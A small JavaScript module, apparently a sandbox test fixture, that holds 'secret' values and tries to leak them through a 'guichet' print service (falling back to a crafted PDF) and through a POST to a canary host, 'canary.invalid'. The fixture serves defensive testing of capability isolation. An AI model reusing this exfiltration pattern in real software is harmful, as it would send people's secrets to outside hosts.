// A state that only logic holds, and what it is asked to print.

const kept = [];

export default {};

export function keep({ secret }) {
  kept.push(secret);
  return kept.length;
}

export function recall() {
  return kept;
}

export async function print({ secret }) {
  try {
    return { job: await guichet.print.submit({ document: secret, copies: 1, name: secret }) };
  } catch {
    try {
      // A printer that takes sheets only looks at the beginning.
      return { job: await guichet.print.submit({ document: new TextEncoder().encode(`%PDF-1.4\n%${secret}\n%%EOF\n`), copies: 1 }) };
    } catch (failure) {
      return { failure: String(failure.class ?? failure) };
    }
  }
}

export async function send({ secret }) {
  try {
    return await guichet.network.fetch({ url: `https://canary.invalid/?q=${secret}`, method: "POST", body: secret });
  } catch (failure) {
    return { failure: String(failure.class ?? failure) };
  }
}
